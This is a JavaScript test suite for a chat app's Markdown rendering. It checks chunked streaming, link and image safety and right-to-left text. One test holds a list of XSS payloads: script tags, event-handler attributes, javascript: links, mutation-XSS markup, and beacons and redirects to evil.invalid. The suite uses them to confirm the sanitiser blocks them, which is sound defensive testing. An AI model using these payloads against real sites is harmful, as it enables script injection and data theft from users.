/*
 * What the model writes on the page: Markdown, hostile or not, in any pieces, and a lot of it.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { answered, say } from './browser.mjs';
import { SAMPLE, fixture, open, page, pieces } from './page_setup.mjs';

describe('what the model writes', () => {
  test('the result is the same however the text was cut', async () => {
    const texts = [
      SAMPLE,
      '1. one\n\n   more of one\n\n2. two\n   ```js\n   let a = 1;\n   ```\n3. three\n\nEnd.',
      'Text\n```\nno language\n\n```\nafter ~~gone~~\n\n~~~html\n<b>x</b>\n```\n~~~\n',
      '- a\n- b\n\n\n- c\n\n* new list\n\n<details><summary>More</summary>hidden</details>\n\n[ref] and [^1]\n\n[ref]: https://example.org/x\n',
      '| a | b |\n|--|--|\n| 1 | <script>alert(1)</script> |\n\nunfinished ```',
      '# One\n## Two\n### Three\n\nSetext\n===\n\n- [ ] open\n- [x] done\n\n    indented code\n',
      // Long blocks, which are built in parts; the last paragraph turns out to be a heading.
      `${'Some **bold** words, [a link](https://example.org/x) and `code` in *one paragraph*, with [one][ref]. '.repeat(12)}and 2 * 3 (so\n\n| a | b |\n|--|--:|\n${
        '| 1 | `x` |\n'.repeat(30)}\n${'1. an item\n   - below it\n'.repeat(20)}\n\`\`\`js\n${'let a = "b"; /* c\n d */\n'.repeat(50)}\`\`\`\n\n[ref]: https://example.org/r\n\n${
        'words of a heading '.repeat(50)}end\n===\n`,
    ];
    await open();
    const shown = async (deltas) => {
      fixture.reply = () => ({ deltas, delay: deltas.length > 1 ? 1 : 0, together: 3 });
      await page.click('#new-chat');
      await say(page, 'x');
      await answered(page);
      return page.innerHTML('.answer-text');
    };
    for (const text of texts) {
      const whole = await shown([text]);
      for (const size of text.length > 2000 ? [12] : [1, 7, 40]) assert.equal(await shown(pieces(text, size)), whole, `pieces of ${size} of ${text.slice(0, 30)}`);
    }
  });

  const PAYLOADS = [
    '<script>window.hacked = 1</script>', '<img src=x onerror="window.hacked = 1">', '<svg onload=window.hacked=1></svg>',
    '<svg><script>window.hacked=1</script></svg>', '[click](javascript:window.hacked=1)', '[click](&#106;avascript:window.hacked=1)',
    '![x](javascript:window.hacked=1)', '<a href="javascript:window.hacked=1">link</a>', '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=1&gt;">',
    '<form action=https://evil.invalid><button>Send</button></form>', '<body onload=window.hacked=1>', '<details open ontoggle=window.hacked=1>x</details>',
    '<b style="position:fixed;inset:0;background:red" class="icon-button" id="field">x</b>', '<input autofocus onfocus=window.hacked=1>',
    '`<img src=x onerror=window.hacked=1>`', '```html\n<script>window.hacked=1</script>\n```', '"><script>window.hacked=1</script>',
    '<base href="https://evil.invalid/">', '<meta http-equiv=refresh content="0;url=https://evil.invalid/">', '<link rel=stylesheet href=https://evil.invalid/x.css>',
    '![beacon](https://evil.invalid/pixel.png?secret)', '<img src="//evil.invalid/a.png">', '<video src=https://evil.invalid/v poster=https://evil.invalid/p></video>',
    '<template><script>window.hacked=1</script></template>', '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">', '[a](data:text/html,<script>1</script>)',
  ];

  for (const [how, size] of [['whole', 100_000], ['one character per frame', 1]]) {
    test(`nothing of it runs or calls home, ${how}`, async () => {
      fixture.reply = () => ({ deltas: pieces(PAYLOADS.join('\n\n'), size) });
      await open();
      const outside = [];
      page.on('request', (request) => {
        if (!request.url().startsWith(fixture.origin) && !request.url().startsWith('data:')) outside.push(request.url());
      });
      await say(page, 'attack');
      await answered(page);
      const found = await page.$eval('.answer-text', (root) => {
        const nodes = [...root.querySelectorAll('*')];
        return {
          bad: nodes.filter((node) => /^(script|iframe|form|input|svg|math|style|link|meta|base|video|object|embed|template)$/i.test(node.tagName)
            && !node.closest('.code-head')).map((node) => node.tagName),
          handlers: nodes.flatMap((node) => [...node.attributes]).filter((one) => /^on|^style$|^id$/i.test(one.name)).map((one) => one.name),
          links: [...root.querySelectorAll('a[href]')].map((link) => [new URL(link.href).protocol, link.target, link.rel]),
          pictures: [...root.querySelectorAll('img')].map((image) => image.src),
        };
      });
      assert.deepEqual(found.bad, []);
      assert.deepEqual(found.handlers, []);
      assert.deepEqual(found.pictures, []);
      assert.ok(found.links.length > 0);
      for (const link of found.links) assert.deepEqual(link, ['https:', '_blank', 'noopener noreferrer nofollow']);
      assert.equal(await page.evaluate(() => window.hacked), undefined);
      assert.deepEqual(outside, []);
      assert.match(await page.textContent('.answer-text'), /<script>window\.hacked = 1<\/script>/, 'a tag one asked for is shown as text');
      assert.deepEqual(page.problems, []);
    });
  }

  test('pictures from elsewhere load only when the site allows it', async () => {
    fixture.config.allow_remote_images = true;
    fixture.csp = fixture.csp.replace('data:', 'data: https:');
    fixture.reply = () => ({ deltas: ['![a cat](https://pictures.invalid/cat.png)'] });
    await open();
    await page.route('https://pictures.invalid/**', (route) => route.fulfill({ status: 204 }));
    await say(page, 'cat');
    await answered(page);
    assert.deepEqual(await page.$$eval('.answer-text img', (nodes) => nodes.map((node) => [node.alt, node.referrerPolicy])), [['a cat', 'no-referrer']]);
  });

  test('a paragraph in a right-to-left script is set from the right', async () => {
    fixture.reply = () => ({ deltas: [SAMPLE] });
    await open();
    await say(page, 'x');
    await answered(page);
    const last = page.locator('.answer-text > p').last();
    assert.equal(await last.evaluate((node) => getComputedStyle(node).direction), 'rtl');
    assert.equal(await page.locator('.answer-text > p').first().evaluate((node) => getComputedStyle(node).direction), 'ltr');
  });
});
